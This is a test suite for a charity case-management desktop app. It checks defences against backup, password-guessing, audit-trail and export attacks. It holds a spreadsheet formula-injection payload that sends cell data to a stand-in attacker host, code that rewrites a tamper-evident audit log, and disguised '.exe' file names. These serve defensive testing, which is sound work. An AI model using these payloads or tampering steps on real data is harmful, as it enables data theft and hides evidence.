import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { auditHash, type ChainedFields } from '../../electron/core/audit/chain';
import { newInboxKeys } from '../../electron/core/audit/inbox';
import { closeDatabase, openDatabase } from '../../electron/core/db/database';
import { fileLog } from '../../electron/core/log/log';
import { ADMIN, addNewPerson, setUp, signInAsNewUser, startCore, tempDir, type TestCore } from './helpers';
import { testChild } from './workers';

/**
 * What a hostile review of the core found, each with the test that failed before the fix: restores
 * interrupted at the worst moment, what they leave behind, who may roll the records back, and every
 * way of guessing a password.
 */
async function withBackup(): Promise<{ t: TestCore; usb: string; path: string }> {
  const t = startCore();
  await setUp(t);
  for (let i = 0; i < 3; i++) await addNewPerson(t, { firstName: `Zofia${i}`, lastName: 'Wiśniewska' });
  const usb = tempDir('casebook-usb-');
  const { path } = await t.ok('backup.create', { targetDir: usb });
  return { t, usb, path };
}

/** Runs the child until the restoring copy's write-ahead log has frames, then kills it with SIGKILL. */
function killAtFirstFrames(env: Record<string, string>): Promise<void> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [testChild('restoreKillChild')], {
      env: { ...process.env, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let err = '';
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    child.stdout.on('data', (d: Buffer) => d.toString().includes('frames written') && child.kill('SIGKILL'));
    child.on('exit', (_code, signal) =>
      signal === 'SIGKILL' ? done() : fail(new Error(`the child stopped by itself: ${err}`)),
    );
  });
}

describe('restores interrupted at the worst moment', () => {
  it('a restore killed as its copy’s write-ahead log gets its first frames leaves nothing that blocks the next restores', async () => {
    const { t, path } = await withBackup();

    const restoring = join(t.dataDir, 'casebook.db.restoring');
    await killAtFirstFrames({
      KILL_BACKUP: path,
      KILL_RESTORING: restoring,
      KILL_KEY: t.cb.requireSignedIn().dbKey.toString('hex'),
    });
    expect(existsSync(`${restoring}-wal`) && statSync(`${restoring}-wal`).size > 0).toBe(true);

    // Casebook starts again (as after the power cut): the waiting copy and its side files are gone.
    const t2 = t.restart();
    expect((await t2.ok('app.status', {})).state).toBe('locked');
    expect(readdirSync(t2.dataDir).filter((f) => f.includes('restoring'))).toEqual([]);
    await t2.ok('signIn.unlock', ADMIN);
    for (let i = 0; i < 2; i++) {
      await t2.ok('backup.restore', { path, credentials: null });
      await t2.ok('signIn.unlock', ADMIN);
      expect((await t2.ok('clients.search', {})).total).toBe(3);
    }
  });

  it('side files left beside a waiting copy are removed before the next copy is made', async () => {
    const { t, path } = await withBackup();
    // A write-ahead log that belongs to no file of that name (as a kill leaves it).
    const restoring = join(t.dataDir, 'casebook.db.restoring');
    writeFileSync(`${restoring}-wal`, Buffer.alloc(8192, 7));
    writeFileSync(`${restoring}-shm`, Buffer.alloc(32768, 1));
    await t.ok('backup.restore', { path, credentials: null });
    await t.ok('signIn.unlock', ADMIN);
    expect((await t.ok('clients.search', {})).total).toBe(3);
    expect(readdirSync(t.dataDir).filter((f) => f.includes('restoring'))).toEqual([]);
  });

  it('a backup clears what interrupted backups left on the stick, and never another one still being written', async () => {
    const { t, usb } = await withBackup();
    const old = [
      '.casebook-0123456789ab.db.tmp',
      '.casebook-0123456789ab.db.tmp-journal',
      '.casebook-ba9876543210.backup.tmp',
    ];
    // An hour before now by the drive's own clock (file times come from the system, not the test's day).
    writeFileSync(join(usb, 'now'), '');
    const anHourAgo = new Date(statSync(join(usb, 'now')).mtimeMs - 3600_000);
    rmSync(join(usb, 'now'));
    for (const f of old) {
      writeFileSync(join(usb, f), Buffer.alloc(4096));
      utimesSync(join(usb, f), anHourAgo, anHourAgo);
    }
    writeFileSync(join(usb, '.casebook-aaaaaaaaaaaa.backup.tmp'), 'being written by another computer just now');
    writeFileSync(join(usb, 'holiday.jpg'), 'not ours');
    await t.ok('backup.create', { targetDir: usb });
    const left = readdirSync(usb);
    for (const f of old) expect(left).not.toContain(f);
    expect(left).toContain('.casebook-aaaaaaaaaaaa.backup.tmp');
    expect(left).toContain('holiday.jpg');
    expect(left.filter((f) => f.endsWith('.casebook-backup'))).toHaveLength(2);
  });

  it('an interrupted copy of the records before a restore is not counted among the three kept, and is removed', async () => {
    const { t, path } = await withBackup();
    const safety = join(t.dataDir, 'before-restore');
    for (let i = 0; i < 3; i++) {
      await t.ok('backup.restore', { path, credentials: null });
      await t.ok('signIn.unlock', ADMIN);
      t.clock.now += 60_000;
    }
    mkdirSync(join(safety, '2026-11-23T10-10-00-000Z.partial'));
    writeFileSync(join(safety, '2026-11-23T10-10-00-000Z.partial', 'casebook.db'), 'half a copy');
    const before = readdirSync(safety)
      .filter((f) => !f.endsWith('.partial'))
      .sort();
    await t.ok('backup.restore', { path, credentials: null });
    const after = readdirSync(safety).sort();
    expect(after).toHaveLength(3);
    expect(after.some((f) => f.endsWith('.partial'))).toBe(false);
    expect(after.slice(0, 2)).toEqual(before.slice(1));
    for (const dir of after) expect(readdirSync(join(safety, dir)).sort()).toEqual(['casebook.db', 'keyslots.json']);
  });
});

describe('who may roll the records back', () => {
  it('restoring or opening a backup needs an administrator’s credentials, signed in or not', async () => {
    const { t, path } = await withBackup();
    const volunteer = await signInAsNewUser(t, 'Vera Volunteer', 'volunteer');
    await t.ok('signIn.lock', {});
    const caseworker = await (async () => {
      await t.ok('signIn.unlock', ADMIN);
      return signInAsNewUser(t, 'Carl Caseworker', 'caseworker');
    })();
    await t.ok('signIn.lock', {});
    for (const who of [
      { name: 'Vera Volunteer', password: volunteer.password },
      { name: 'Carl Caseworker', password: caseworker.password },
    ]) {
      expect((await t.fail('backup.restore', { path, credentials: who })).code, who.name).toBe('FORBIDDEN');
      expect((await t.fail('backup.inspect', { path, credentials: who })).code, who.name).toBe('FORBIDDEN');
    }
    // Signed in, the same people are refused too; an administrator may, locked or not.
    await t.ok('signIn.unlock', { name: 'Vera Volunteer', password: volunteer.password });
    expect((await t.fail('backup.restore', { path, credentials: null })).code).toBe('FORBIDDEN');
    await t.ok('signIn.lock', {});
    expect((await t.ok('backup.inspect', { path, credentials: ADMIN })).counts.clients).toBe(3);
  });

  it('on a new computer, the backup opens only with one of its administrators’ names and passwords', async () => {
    const { t, path } = await withBackup();
    await signInAsNewUser(t, 'Vera Volunteer', 'volunteer', 'volunteer password 123');
    await t.ok('signIn.lock', {});
    await t.ok('signIn.unlock', ADMIN);
    const { path: withVera } = await t.ok('backup.create', { targetDir: tempDir('casebook-usb-') });
    const fresh = startCore();
    expect(
      (
        await fresh.fail('backup.restore', {
          path: withVera,
          credentials: { name: 'Vera Volunteer', password: 'volunteer password 123' },
        })
      ).code,
    ).toBe('FORBIDDEN');
    expect(readdirSync(fresh.dataDir).filter((f) => f.includes('casebook.db'))).toEqual([]);
    await fresh.ok('backup.restore', { path, credentials: ADMIN });
  });
});

describe('guessing passwords', () => {
  it('opening a backup while locked is throttled like signing in, and every wrong password is recorded', async () => {
    const { t, path } = await withBackup();
    await t.ok('signIn.lock', {});
    const wrong = { name: ADMIN.name, password: 'not it at all' };
    expect(await t.fail('backup.inspect', { path, credentials: wrong })).toMatchObject({
      code: 'NOT_CURRENT_CREDENTIALS',
      retryAfterMs: 1000,
    });
    expect((await t.fail('backup.restore', { path, credentials: wrong })).code).toBe('TOO_MANY_ATTEMPTS');
    expect((await t.fail('signIn.unlock', ADMIN)).code).toBe('TOO_MANY_ATTEMPTS');
    t.clock.now += 1000;
    expect(await t.fail('backup.restore', { path, credentials: wrong })).toMatchObject({
      code: 'NOT_CURRENT_CREDENTIALS',
      retryAfterMs: 2000,
    });
    t.clock.now += 2000;
    await t.ok('signIn.unlock', ADMIN);
    const failed = (await t.ok('audit.list', { action: 'session.failedPasswordCheck' })).items;
    expect(failed.map((e) => e.detail)).toEqual([
      expect.objectContaining({ channel: 'backup.restore' }),
      expect.objectContaining({ channel: 'backup.inspect' }),
    ]);
    // Signed in, a wrong password for another install's backup is recorded too.
    expect((await t.fail('backup.inspect', { path, credentials: wrong })).code).toBe('WRONG_PASSWORD');
    expect((await t.ok('audit.list', { action: 'session.failedPasswordCheck' })).total).toBe(3);
  });

  it('tries made at the same moment are checked one after another, so only the first is looked at', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    const tries = await Promise.all(
      Array.from({ length: 6 }, (_, i) => t.call('signIn.unlock', { name: ADMIN.name, password: `guess number ${i}` })),
    );
    expect(tries.map((r) => (r.ok ? 'ok' : r.error.code)).sort()).toEqual([
      'TOO_MANY_ATTEMPTS',
      'TOO_MANY_ATTEMPTS',
      'TOO_MANY_ATTEMPTS',
      'TOO_MANY_ATTEMPTS',
      'TOO_MANY_ATTEMPTS',
      'WRONG_PASSWORD',
    ]);
  });

  it('the waits survive a restart, and trying many names counts for everyone', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    await t.fail('signIn.unlock', { name: ADMIN.name, password: 'wrong' });
    const t2 = t.restart();
    expect((await t2.fail('signIn.unlock', ADMIN)).code).toBe('TOO_MANY_ATTEMPTS');
    // Names nobody has: each one a first failure, until the limit for everyone is reached.
    const codes: string[] = [];
    for (let i = 0; i < 8; i++) {
      t2.clock.now += 1500;
      codes.push((await t2.fail('signIn.unlock', { name: `Someone ${i}`, password: 'guess' })).code);
    }
    expect(codes.slice(0, 4)).toEqual(['WRONG_PASSWORD', 'WRONG_PASSWORD', 'WRONG_PASSWORD', 'WRONG_PASSWORD']);
    expect(codes).toContain('TOO_MANY_ATTEMPTS');
    // A name never tried still waits, because of the others.
    expect((await t2.fail('signIn.unlock', { name: 'Never Tried', password: 'guess' })).code).toBe('TOO_MANY_ATTEMPTS');
    // The file keeps counts, not names.
    expect(JSON.stringify(readdirSync(t2.dataDir))).toContain('throttle.json');
    const kept = readFileSync(join(t2.dataDir, 'throttle.json'), 'utf8');
    expect(kept).not.toMatch(/someone|kowalska/i);
  });
});

/** Edits the key file as someone with the file but not the database key would, keeping its checksum right. */
function rewriteKeyFile(dir: string, change: (f: Record<string, unknown>) => void): void {
  const path = join(dir, 'keyslots.json');
  const f = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
  change(f);
  const fields = [
    'format',
    'version',
    'vaultId',
    'slots',
    'auditInboxKey',
    'inboxMac',
    'auditHead',
    'headMac',
    'generation',
    'generationMac',
    'mac',
  ];
  const ordered = Object.fromEntries(fields.filter((k) => f[k] !== undefined).map((k) => [k, f[k]]));
  f['checksum'] = createHash('sha256').update(JSON.stringify(ordered)).digest('hex');
  writeFileSync(path, JSON.stringify(f, null, 2));
}

describe('the key file and the audit trail', () => {
  it('a replaced inbox key does not lock anyone out: sign-in works, the trail says so, and a new key is made', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    const stranger = newInboxKeys();
    rewriteKeyFile(t.dataDir, (f) => (f['auditInboxKey'] = stranger.publicKey));
    // Sealed to the stranger while locked.
    await t.fail('signIn.unlock', { name: ADMIN.name, password: 'a guess' });
    t.clock.now += 1000;
    expect((await t.ok('signIn.unlock', ADMIN)).state).toBe('unlocked');
    expect((await t.ok('audit.list', { action: 'audit.inboxKeyReplaced' })).total).toBe(1);
    const file = JSON.parse(readFileSync(join(t.dataDir, 'keyslots.json'), 'utf8')) as { auditInboxKey: string };
    expect(file.auditInboxKey).not.toBe(stranger.publicKey);
    // Failed sign-ins are sealed to Casebook's own key again, and join the trail.
    await t.ok('signIn.lock', {});
    await t.fail('signIn.unlock', { name: ADMIN.name, password: 'another guess' });
    t.clock.now += 1000;
    await t.ok('signIn.unlock', ADMIN);
    expect((await t.ok('audit.list', { action: 'session.failedLogin' })).total).toBe(1);
    expect((await t.ok('audit.verify', {})).ok).toBe(true);
  });

  it('a trail rewritten inside the database, hashes and all, is caught at the next sign-in', async () => {
    const { t } = await withBackup();
    const key = Buffer.from(t.cb.requireSignedIn().dbKey);
    await t.ok('signIn.lock', {});
    // Someone with the database key (every user's password opens it) rewrites the trail.
    const db = openDatabase(join(t.dataDir, 'casebook.db'), key);
    const sqlite = db.$client;
    sqlite.exec('DROP TRIGGER audit_events_no_update; DROP TRIGGER audit_events_no_delete;');
    const rows = sqlite
      .prepare('SELECT id, at, user_id AS userId, action, client_id AS clientId, detail FROM audit_events ORDER BY id')
      .all() as ChainedFields[];
    const kept = rows.slice(0, -3);
    kept[1]!.detail = JSON.stringify({ edited: true });
    sqlite.prepare('DELETE FROM audit_events WHERE id > ?').run(kept[kept.length - 1]!.id);
    let previous: string | null = null;
    for (const row of kept) {
      previous = auditHash(previous, row);
      sqlite.prepare('UPDATE audit_events SET detail = ?, hash = ? WHERE id = ?').run(row.detail, previous, row.id);
    }
    sqlite
      .prepare(`UPDATE settings SET value = ? WHERE key = 'audit_head'`)
      .run(JSON.stringify({ id: kept[kept.length - 1]!.id, hash: previous }));
    closeDatabase(db);
    await t.ok('signIn.unlock', ADMIN);
    expect((await t.ok('audit.list', { action: 'audit.trailRewritten' })).total).toBe(1);
    expect((await t.ok('audit.verify', {})).ok).toBe(false);
    // Its guards were gone too: put back, and said.
    expect((await t.ok('audit.list', { action: 'audit.guardsRestored' })).total).toBe(1);
    expect(() => t.cb.requireSignedIn().db.$client.prepare('DELETE FROM audit_events').run()).toThrow(/append-only/);
  });
});

describe('hostile text', () => {
  it('no export lets a spreadsheet run what a client’s details say', async () => {
    const t = startCore();
    await setUp(t);
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,1)'];
    for (const [i, lastName] of hostile.entries())
      await addNewPerson(t, { firstName: `Name${i}`, lastName, gender: '=1+1', intakeDate: '2026-11-01' });
    const files = [
      (
        await t.ok('clients.exportCsv', {
          query: '',
          status: null,
          caseworkerId: null,
          riskFlag: null,
          sort: 'name',
          descending: false,
        })
      ).path,
      (await t.ok('reports.saveCsv', { from: '2026-01-01', to: '2026-11-23' })).path,
      (await t.ok('audit.exportCsv', {})).path,
    ];
    for (const file of files) {
      const cells = (
        parseCsv(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
      ).flat();
      expect(
        cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
        file,
      ).toEqual([]);
    }
    // The names are there, as text.
    const clients = readFileSync(files[0]!, 'utf8');
    for (const name of hostile) expect(clients).toContain(`'${name.replace(/"/g, '""')}`);
    expect(readFileSync(files[1]!, 'utf8')).toContain("'=1+1");
  });
});

describe('names and text that look like something else', () => {
  it('an administrator’s name cannot be copied with invisible characters, direction marks or lookalike letters', async () => {
    const t = startCore();
    await setUp(t);
    const tries: [string, string][] = [
      ['Anna Kowalska\u200B', 'invalidCharacters'],
      ['Anna\u200DKowalska', 'invalidCharacters'],
      ['Anna Kowalska\u202E', 'invalidCharacters'],
      ['Anna Kowalska\u0007', 'invalidCharacters'],
      ['Anna\tKowalska', 'invalidCharacters'],
      ['\u0410nna Kowalska', 'nameLooksLikeAnother'],
      ['Anna Kowa1ska', 'nameLooksLikeAnother'],
      ['anna  kowalska', 'nameTaken'],
    ];
    for (const [name, why] of tries)
      expect(
        (await t.fail('users.create', { name, role: 'admin', password: 'a long password 1' })).fields,
        JSON.stringify(name),
      ).toEqual({ name: why });
    // Letters of Polish are letters, not lookalikes: Łucja and Lucja are two people.
    await t.ok('users.create', { name: 'Lucja Nowak', role: 'caseworker', password: 'a long password 1' });
    await t.ok('users.create', { name: 'Łucja Nowak', role: 'caseworker', password: 'a long password 1' });
    // The same letters typed two ways are stored one way (composed).
    const decomposed = 'Zo\u0301fia Kro\u0301l';
    const made = await t.ok('users.create', { name: decomposed, role: 'volunteer', password: 'a long password 1' });
    expect(made.name).toBe('Zófia Król'.normalize('NFC'));
  });

  it('controls and direction overrides are refused on one line, removed from long text, and kept out of file names', async () => {
    const t = startCore();
    await setUp(t);
    for (const lastName of ['Nowak\u202E', 'No\u0000wak', 'Nowak\u0085', 'Now\u2066ak', 'Nowak\nKowalska'])
      expect(
        (await t.fail('clients.intake', { details: { firstName: 'Jan', lastName }, duplicatesSeen: [] })).fields,
        JSON.stringify(lastName),
      ).toEqual({ 'details.lastName': 'invalidCharacters' });
    expect(
      (
        await t.fail('charity.update', {
          name: 'Przystań\u202Egpj.exe',
          address: null,
          charityNumber: null,
          phone: null,
          email: null,
        })
      ).fields,
    ).toMatchObject({ name: 'invalidCharacters' });
    const client = await addNewPerson(t, {
      firstName: 'Jan',
      lastName: 'Nowak',
      address: '12 High Street\nLeeds\u0007 LS1 4AB',
    });
    expect((await t.ok('clients.get', { id: client.id })).client.address).toBe('12 High Street\nLeeds LS1 4AB');
    const note = await t.ok('notes.save', {
      clientId: client.id,
      note: {
        date: '2026-11-23',
        time: '10:00',
        kind: 'phone',
        body: 'First line\n\tindented\u001B[31m and a bell\u0007.',
      },
    });
    expect(note.body).toBe('First line\n\tindented[31m and a bell.');
    const { safeFileName } = await import('../../electron/core/storage/files');
    expect(safeFileName('Casebook Przystań\u202Egpj.exe\u007F 2026')).toBe('Casebook Przystań gpj.exe 2026');
    expect(safeFileName('..hidden: a/b\\c?.')).toBe('hidden a b c');
  });
});

describe('references to records that are not there, or not this client’s', () => {
  it('are refused in words, never an unexpected error', async () => {
    const t = startCore();
    await setUp(t);
    const jan = await addNewPerson(t, { firstName: 'Jan', lastName: 'Nowak' });
    const ewa = await addNewPerson(t, { firstName: 'Ewa', lastName: 'Kowal' });
    const janNote = await t.ok('notes.save', {
      clientId: jan.id,
      note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Jan rang.' },
    });
    // Editing Jan's note from Ewa's record.
    const wrongClient = await t.fail('notes.save', {
      clientId: ewa.id,
      target: { id: janNote.id, version: janNote.version },
      note: { date: '2026-11-23', time: '10:00', kind: 'phone', body: 'Changed from Ewa’s record.' },
    });
    expect(wrongClient.code).toBe('NOT_FOUND');
    expect((await t.ok('notes.get', { id: janNote.id })).body).toBe('Jan rang.');
    // A letter kept with a referral that does not exist.
    const general = (await t.ok('templates.list', { includeArchived: false })).find(
      (x) => x.kind === 'general' && x.language === 'en',
    )!;
    const noReferral = await t.fail('letters.keep', {
      request: { clientId: jan.id, templateId: general.id, referralId: 999, text: 'Hello' },
      edits: { subject: 'A letter', body: 'Hello' },
    });
    expect(noReferral).toMatchObject({ code: 'BAD_INPUT', fields: { referralId: 'invalid' } });
  });
});

describe('records changed outside Casebook', () => {
  it('a schema version lowered by hand is refused in words at sign-in, before any upgrade copy is written', async () => {
    const { t } = await withBackup();
    const key = Buffer.from(t.cb.requireSignedIn().dbKey);
    await t.ok('signIn.lock', {});
    const db = openDatabase(join(t.dataDir, 'casebook.db'), key, { migrate: false });
    db.$client.pragma('user_version = 7');
    closeDatabase(db);
    expect((await t.fail('signIn.unlock', ADMIN)).code).toBe('SCHEMA_MISMATCH');
    expect(existsSync(join(t.dataDir, 'before-upgrade'))).toBe(false);
  });

  it('a key file from another install, and one from a newer Casebook, each say what they are', async () => {
    const { t } = await withBackup();
    const other = startCore();
    await setUp(other);
    await other.ok('signIn.lock', {});
    await t.ok('signIn.lock', {});
    writeFileSync(join(t.dataDir, 'keyslots.json'), readFileSync(join(other.dataDir, 'keyslots.json')));
    expect((await t.fail('signIn.unlock', ADMIN)).code).toBe('KEY_NOT_FOR_RECORDS');
    rewriteKeyFile(t.dataDir, (f) => (f['version'] = 99));
    expect(await t.ok('app.status', {})).toMatchObject({ state: 'problem', problem: 'KEY_FILE_TOO_NEW' });
  });

  it('a key slot given to another person, or given other key-derivation settings, is refused as changed, not as a wrong password', async () => {
    const { t } = await withBackup();
    await signInAsNewUser(t, 'Vera Volunteer', 'volunteer');
    await t.ok('signIn.lock', {});
    const original = readFileSync(join(t.dataDir, 'keyslots.json'));
    type Slot = { kind: string; userId: number | null; kdf: Record<string, number> };
    const slots = (f: Record<string, unknown>) => f['slots'] as Slot[];
    const volunteerId = slots(JSON.parse(original.toString('utf8'))).find(
      (s) => s.kind === 'password' && s.userId !== 1,
    )!.userId;
    // Vera's slot made to say it is the administrator's (user 1).
    rewriteKeyFile(t.dataDir, (f) => {
      for (const s of slots(f)) if (s.userId === volunteerId) s.userId = 1;
    });
    expect((await t.fail('signIn.unlock', { name: 'Vera Volunteer', password: 'volunteer password 123' })).code).toBe(
      'KEY_SLOT_CHANGED',
    );
    // A wrong password on the same changed slot is still only a wrong password.
    expect((await t.fail('signIn.unlock', { name: 'Vera Volunteer', password: 'not her password 1' })).code).toBe(
      'WRONG_PASSWORD',
    );
    // The administrator's slot with settings that would take hours: not run at all.
    writeFileSync(join(t.dataDir, 'keyslots.json'), original);
    rewriteKeyFile(t.dataDir, (f) => {
      for (const s of slots(f)) if (s.userId === 1) s.kdf['iterations'] = 50_000_000;
    });
    expect((await t.fail('signIn.unlock', ADMIN)).code).toBe('KEY_SLOT_CHANGED');
    // Put back, everything opens as before.
    writeFileSync(join(t.dataDir, 'keyslots.json'), original);
    await t.ok('signIn.unlock', ADMIN);
  });
});

describe('what Casebook leaves on disk', () => {
  it('is readable by the person using the computer only, and a backup’s readable header names nobody', async () => {
    const logs = tempDir('casebook-logs-');
    const t = startCore({ log: fileLog(logs), logDir: logs });
    await setUp(t);
    await addNewPerson(t, { firstName: 'Zofia', lastName: 'Wiśniewska' });
    await signInAsNewUser(t, 'Vera Volunteer', 'volunteer');
    await t.ok('signIn.lock', {});
    await t.ok('signIn.unlock', ADMIN);
    const usb = tempDir('casebook-usb-');
    const { path } = await t.ok('backup.create', { targetDir: usb });
    await t.ok('backup.restore', { path, credentials: null });
    await t.ok('signIn.unlock', ADMIN);
    const loose: string[] = [];
    const walk = (dir: string) => {
      if ((statSync(dir).mode & 0o077) !== 0) loose.push(`${dir}/`);
      for (const f of readdirSync(dir)) {
        const p = join(dir, f);
        if (statSync(p).isDirectory()) walk(p);
        else if ((statSync(p).mode & 0o077) !== 0) loose.push(p);
      }
    };
    for (const dir of [t.dataDir, logs]) walk(dir);
    expect((statSync(path).mode & 0o077) === 0).toBe(true);
    expect(loose).toEqual([]);
    // The backup's header (readable without a key) carries the key slots: no names in them.
    const header = readFileSync(path).subarray(0, 20_000).toString('latin1');
    for (const name of ['anna kowalska', 'Anna Kowalska', 'vera volunteer']) expect(header).not.toContain(name);
    expect(readFileSync(join(t.dataDir, 'keyslots.json'), 'utf8')).not.toMatch(/kowalska|vera/i);
  });
});

describe('refused calls', () => {
  it('are kept in the audit trail, one entry per person and channel with how many times', async () => {
    const t = startCore();
    await setUp(t);
    const vera = await signInAsNewUser(t, 'Vera Volunteer', 'volunteer');
    for (let i = 0; i < 5; i++) expect((await t.fail('users.list', {})).code).toBe('FORBIDDEN');
    expect((await t.fail('audit.list', {})).code).toBe('FORBIDDEN');
    // Five minutes on, while she is still signed in, they are written.
    t.clock.now += 5 * 60_000;
    t.cb.checkIdle();
    await t.fail('users.list', {});
    await t.ok('signIn.lock', {});
    await t.ok('signIn.unlock', ADMIN);
    const refused = (await t.ok('audit.list', { action: 'access.refused' })).items.map((e) => [
      e.userName,
      e.detail?.['channel'],
      e.detail?.['count'],
    ]);
    expect(refused).toEqual([
      ['Vera Volunteer', 'users.list', 1],
      ['Vera Volunteer', 'audit.list', 1],
      ['Vera Volunteer', 'users.list', 5],
    ]);
    expect(vera.user.name).toBe('Vera Volunteer');
  });
});

describe('an older copy put back', () => {
  const copyOf = (dir: string, name: string) => readFileSync(join(dir, name));

  it('an earlier records file is noticed, said in the trail and on screen, until an administrator confirms it', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    const earlier = copyOf(t.dataDir, 'casebook.db');
    await t.ok('signIn.unlock', ADMIN);
    const later = await addNewPerson(t, { firstName: 'Jan', lastName: 'Później' });
    await t.ok('erasure.eraseClient', {
      id: later.id,
      mode: 'erase',
      reason: 'Asked to be forgotten',
      confirmation: later.reference,
    });
    await t.ok('signIn.lock', {});
    writeFileSync(join(t.dataDir, 'casebook.db'), earlier);
    const state = await t.ok('signIn.unlock', ADMIN);
    expect(state.rollback).toBe('records');
    expect((await t.ok('audit.list', { action: 'records.rollbackSuspected' })).items[0]!.detail).toEqual({
      found: 'records',
    });
    // Still there at the next sign-in, until an administrator confirms.
    await t.ok('signIn.lock', {});
    expect((await t.ok('signIn.unlock', ADMIN)).rollback).toBe('records');
    expect((await t.ok('signIn.acceptRecordsAsTheyAre', {})).rollback).toBeNull();
    await t.ok('signIn.lock', {});
    expect((await t.ok('signIn.unlock', ADMIN)).rollback).toBeNull();
  });

  it('an earlier key file (an old password valid again) is noticed', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    const earlier = copyOf(t.dataDir, 'keyslots.json');
    await t.ok('signIn.unlock', ADMIN);
    await t.ok('signIn.changePassword', { currentPassword: ADMIN.password, newPassword: 'a completely new password' });
    await t.ok('signIn.lock', {});
    writeFileSync(join(t.dataDir, 'keyslots.json'), earlier);
    expect((await t.ok('signIn.unlock', ADMIN)).rollback).toBe('keyFile');
  });

  it('an earlier copy of both files is noticed by what this computer saw last', async () => {
    const { t } = await withBackup();
    await t.ok('signIn.lock', {});
    const earlier = { db: copyOf(t.dataDir, 'casebook.db'), slots: copyOf(t.dataDir, 'keyslots.json') };
    await t.ok('signIn.unlock', ADMIN);
    await t.ok('signIn.lock', {});
    writeFileSync(join(t.dataDir, 'casebook.db'), earlier.db);
    writeFileSync(join(t.dataDir, 'keyslots.json'), earlier.slots);
    const t2 = t.restart();
    expect((await t2.ok('signIn.unlock', ADMIN)).rollback).toBe('both');
  });

  it('restoring a backup on purpose is not taken for a rollback', async () => {
    const { t, path } = await withBackup();
    await addNewPerson(t, { firstName: 'Jan', lastName: 'Później' });
    await t.ok('signIn.lock', {});
    await t.ok('signIn.unlock', ADMIN);
    await t.ok('backup.restore', { path, credentials: null });
    expect((await t.ok('signIn.unlock', ADMIN)).rollback).toBeNull();
    await t.ok('signIn.lock', {});
    expect((await t.ok('signIn.unlock', ADMIN)).rollback).toBeNull();
  });
});
